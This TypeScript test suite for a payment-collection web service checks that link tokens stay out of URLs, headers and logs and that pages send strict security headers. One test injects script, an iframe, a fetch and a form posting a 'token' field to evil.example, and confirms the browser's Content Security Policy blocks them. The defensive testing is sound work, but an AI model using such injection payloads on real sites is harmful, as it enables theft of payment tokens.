// Who carries a recipient's pages, from the browser's address bar to the service's log, never learns the link's token
// outside bodies of posted forms; nothing keeps a page; a page runs and loads nothing that is not the service's; and
// whoever merely looks at a link, as mail scanners do, changes nothing.
import assert from 'node:assert/strict';
import { Writable } from 'node:stream';
import { after, before, test } from 'node:test';
import pino from 'pino';
import {
  type CollectTest,
  enterCode,
  germanAccount,
  openLink,
  press,
  startCollectTest,
  submit,
} from '../collectHarness.ts';
import { type LoggingProxy, type Passed, startLoggingProxy } from '../loggingProxy.ts';

let collect: CollectTest;
let proxy: LoggingProxy;
const logged: string[] = [];
before(async () => {
  const stream = new Writable({
    write(chunk, _encoding, done) {
      logged.push(String(chunk));
      done();
    },
  });
  collect = await startCollectTest(pino({ level: 'trace' }, stream));
  proxy = await startLoggingProxy(collect.payments.service.url);
});
after(async () => {
  await proxy?.close();
  await collect?.close();
});

const collectRequests = () => proxy.passed.filter(({ line }) => line.includes('/collect'));

test('the token is in bodies of forms and of uncached pages alone, and in no log', async () => {
  const payment = await collect.mailed();
  const { texts, token } = payment;
  const codes: string[] = [];
  await collect.withPage({ proxy: { server: proxy.url } }, async (page) => {
    await submit(page, payment, germanAccount);
    codes.push(await collect.codeOf(payment));
    await enterCode(page, payment, codes[0] === '000000' ? '000001' : '000000');
    await page.goBack();
    await page.reload();
    assert.equal(await page.locator('h1').textContent(), texts.shell.title);
    assert.equal(page.url().includes(token), false);
    assert.equal(await page.evaluate('JSON.stringify(history.state)'), 'null');
    await collect.payments.advance('PT31S');
    await submit(page, payment, germanAccount);
    codes.push(await collect.codeOf(payment, 3));
    await enterCode(page, payment, codes[1] ?? '');
    await press(page, texts.receipt.refresh);
    assert.equal(await page.locator('h1').textContent(), texts.receipt.status.PENDING.title);
    assert.deepEqual(await page.context().cookies(), []);
    assert.equal(await page.evaluate('localStorage.length + sessionStorage.length'), 0);
  });

  const seen = collectRequests();
  const posted = seen.filter(({ body }) => body.includes(token));
  assert.ok(posted.length >= 9, `${posted.length} forms went through the proxy`);
  assert.deepEqual([...new Set(posted.map(({ line }) => line.split(' ')[0]))], ['POST']);
  for (const { line, headers, answerHeaders, answer } of seen) {
    assert.ok(!`${line} ${JSON.stringify(headers)}`.includes(token), `${line}: the request's head`);
    assert.equal(headers.referer, undefined, line);
    assert.ok(!JSON.stringify(answerHeaders).includes(token), `${line}: the answer's head`);
    if (answer.includes(token)) assert.equal(answerHeaders['cache-control'], 'no-store', line);
    assert.equal(answerHeaders['set-cookie'], undefined, line);
  }
  const log = logged.join('');
  assert.match(log, /"level":(10|20|30)/, 'the log is on');
  for (const secret of [token, payment.email, '370400440532', 'Jo Citizen'])
    assert.ok(!log.includes(secret), `the log holds ${secret}`);
  for (const code of codes) assert.doesNotMatch(log, new RegExp(`"${code}"`), 'the log holds a code');
});

test('nothing goes anywhere but to the service', () => {
  const elsewhere = proxy.passed.filter(({ status }) => status === 502).map(({ line }) => line);
  assert.deepEqual(elsewhere, []);
});

test('every page forbids to be kept, framed, guessed at and told of', () => {
  const pages = collectRequests().filter(({ line }) => !line.endsWith('/collect.js'));
  assert.ok(pages.length > 10);
  for (const { line, answerHeaders } of pages) assertGuarded(line, answerHeaders);
  const [script] = collectRequests().filter(({ line }) => line.endsWith('/collect.js'));
  assert.equal(script?.answerHeaders['x-content-type-options'], 'nosniff');
});

function assertGuarded(what: string, headers: Passed['answerHeaders']): void {
  assert.equal(headers['cache-control'], 'no-store', what);
  assert.equal(headers['referrer-policy'], 'no-referrer', what);
  assert.equal(headers['x-content-type-options'], 'nosniff', what);
  assert.equal(headers['x-frame-options'], 'DENY', what);
  const policy = String(headers['content-security-policy']).split('; ');
  for (const rule of [
    "default-src 'none'",
    "frame-ancestors 'none'",
    "form-action 'self'",
    "base-uri 'none'",
  ])
    assert.ok(policy.includes(rule), `${what}: ${policy.join('; ')}`);
  assert.ok(!policy.join().includes('unsafe'), what);
}

test('pages of refusals are guarded as well', async () => {
  const { url } = collect.payments.service;
  const posts = [
    ['open', 'token=nothing!'],
    ['open', `token=${'A'.repeat(43)}`],
    ['confirm', ''],
  ] as const;
  for (const [step, body] of posts) {
    const response = await fetch(`${url}/collect/${step}`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body,
    });
    assert.ok([400, 404].includes(response.status), `${step}: ${response.status}`);
    assertGuarded(`${step} ${body}`, Object.fromEntries(response.headers));
  }
});

test('a script or a request that was smuggled into a page does nothing', async () => {
  const payment = await collect.mailed();
  const complaints: string[] = [];
  const smuggled = collect.withPage({ proxy: { server: proxy.url } }, async (page) => {
    page.on('console', (message) => complaints.push(message.text()));
    await openLink(page, payment);
    proxy.passed.length = 0;
    await page.evaluate(`
      document.body.insertAdjacentHTML('beforeend', '<img src="http://evil.example/i.png" onerror="globalThis.ran = 1">'
        + '<iframe src="http://evil.example/f"></iframe><style>h1{display:none}</style>'
        + '<form id="evil" action="http://evil.example/take" method="post"><input name="token"></form>');
      for (const [name, text] of [['src', 'http://evil.example/s.js'], ['textContent', 'globalThis.ran = 1']]) {
        const script = document.createElement('script');
        script[name] = text;
        document.body.append(script);
      }
      fetch('http://evil.example/c').catch(() => {});
      document.getElementById('evil').submit();
      0`);
    await page.waitForTimeout(300);
    assert.equal(await page.evaluate('globalThis.ran'), undefined);
    assert.ok(await page.locator('h1').isVisible());
    assert.match(page.url(), /\/collect\/open$/);
  });
  await assert.rejects(smuggled, /Content Security Policy/, 'the browser says what it held back');
  assert.deepEqual(
    proxy.passed.map(({ line }) => line),
    [],
  );
  for (const rule of ['script-src', 'img-src', 'style-src', 'connect-src', 'form-action', 'default-src'])
    assert.ok(
      complaints.some((text) => text.includes(rule)),
      `${rule} held something back: ${complaints.join('\n')}`,
    );
});

test('who only looks at a link, fifty times and in every way, changes nothing', async () => {
  const payment = await collect.mailed();
  const { url } = collect.payments.service;
  await collect.payments.until(
    await collect.payments.get(payment.planId),
    'the e-mail was accepted',
    ({ steps }) => steps.at(-1)?.collect?.link?.mail === 'ACCEPTED',
  );
  const before = await collect.payments.textOf(payment.planId);
  const paths = [
    '/collect',
    `/collect#${payment.token}`,
    `/collect/${payment.token}`,
    `/collect/open?token=${payment.token}`,
    `/collect?token=${payment.token}`,
    '/collect/submit',
    '/collect/confirm',
  ];
  for (let count = 0; count < 50; count++) {
    const method = count % 2 === 0 ? 'GET' : 'HEAD';
    const response = await fetch(`${url}${paths[count % paths.length]}`, { method });
    assert.ok(response.status < 500, `${method} ${paths[count % paths.length]}: ${response.status}`);
    await response.arrayBuffer();
  }
  assert.equal(await collect.payments.textOf(payment.planId), before);
});
